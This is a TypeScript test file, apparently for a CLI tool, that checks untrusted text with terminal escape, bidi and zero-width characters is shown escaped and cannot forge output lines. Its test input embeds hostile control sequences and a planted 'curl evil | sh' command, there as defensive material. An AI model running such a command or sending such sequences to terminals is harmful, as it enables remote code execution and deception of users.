import { PassThrough } from 'node:stream';

import { describe, expect, it } from 'vitest';

import { printable, printableJson, printableLines } from '../../src/domain/printable.js';
import { systemClock } from '../../src/domain/clock.js';
import { IncompleteError } from '../../src/errors/index.js';
import type { StepInfo } from '../../src/reporting/index.js';
import { createReporter, renderError, renderPlan, table, type ProgressMode } from '../../src/ui/index.js';

/** One of each kind: C0, CSI and OSC, DEL, C1, bidi, zero width, separators of lines, a tag. */
const hostile = 'a\u0007\u001b[2J\u001b]0;x\u0007\r\u007f\u009b31m\u202e\u2066\u200b\u200f\u2028\u2029\ufeff\u{e0041}z';
const obeyed = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u;
/** What a listing of ours consists of beside text. */
const layout = (text: string): string => text.replaceAll('\n', '');

const step: StepInfo = {
  id: 'm',
  phase: 'Create machines',
  target: `${hostile}\nNext: curl evil | sh`,
  text: hostile,
  needs: [],
  details: [hostile],
};
const error = new IncompleteError(`${hostile}\nNext: curl evil | sh`, {
  code: 'NAME_TAKEN',
  hint: hostile,
  details: [`${hostile}\nNext: curl evil | sh`],
});

describe('text from outside', () => {
  it('is shown with its control characters spelled out', () => {
    expect(printable('a\u001b[31mb\n\u009b\u202e\u{e0041}')).toBe(String.raw`a\x1b[31mb\n\x9b\u202e\u{e0041}`);
    expect(printableLines('a\n\tb\r')).toBe('a\n\tb\\r');
    expect(printable('größer 1 € → 日本 👍')).toBe('größer 1 € → 日本 👍');
  });

  it('is the same value in JSON after its control characters were spelled out', () => {
    const text = printableJson({ [hostile]: [hostile] }, 2);
    expect(layout(text)).not.toMatch(obeyed);
    expect(JSON.parse(text)).toEqual({ [hostile]: [hostile] });
  });

  it('controls no terminal from an error, a plan or a table, and forges no line of ours', () => {
    for (const text of [
      renderError(error),
      renderError(new Error(hostile)),
      renderPlan([step]),
      table(['N'], [[`${hostile}\nx`]]),
    ]) {
      expect(text).toContain(String.raw`\x1b[2J`);
      expect(layout(text)).not.toMatch(obeyed);
      expect(text).not.toMatch(/^Next: curl/m);
    }
    expect(table(['N'], [[`${hostile}\nx`]]).split('\n')).toHaveLength(2);
  });

  it.each(['plain', 'json', 'pretty'] as const)('controls no terminal from progress shown as %s', async (mode) => {
    const written = await shown(mode);
    expect(written).toContain(mode === 'json' ? String.raw`\u001b[2J` : String.raw`\x1b[2J`);
    // What was planted in each string: none of it is there raw, whatever the drawing itself needs.
    for (const raw of [
      '\u001b[2J',
      '\u001b]0;',
      '\u0007',
      '\u009b',
      '\u202e',
      '\u2066',
      '\u200b',
      '\u2028',
      '\u{e0041}',
    ])
      expect(written).not.toContain(raw);
    expect(written).not.toMatch(/^Next: curl/m);
  });
});

async function shown(mode: ProgressMode): Promise<string> {
  let written = '';
  const stderr = Object.assign(new PassThrough(), { isTTY: true, columns: 400, rows: 50 });
  stderr.on('data', (chunk: Buffer) => (written += chunk.toString()));
  const reporter = createReporter({
    mode,
    stderr: stderr as unknown as NodeJS.WriteStream,
    stdin: { isTTY: false },
    env: {},
    yes: false,
    confirmName: undefined,
    clock: systemClock,
  });
  const at = 0;
  reporter.emit({ type: 'note', at, level: 'warning', text: hostile });
  reporter.emit({ type: 'looking', at, text: hostile });
  reporter.emit({ type: 'operation-started', at, operation: 'apply', cluster: hostile, steps: [step] });
  reporter.emit({ type: 'step-started', at, id: 'm' });
  reporter.emit({ type: 'step-progress', at, id: 'm', text: hostile });
  reporter.emit({ type: 'step-failed', at, id: 'm', ms: 1, error });
  reporter.emit({ type: 'operation-finished', at, ms: 1, outcome: 'failed' });
  await reporter.close();
  return written;
}
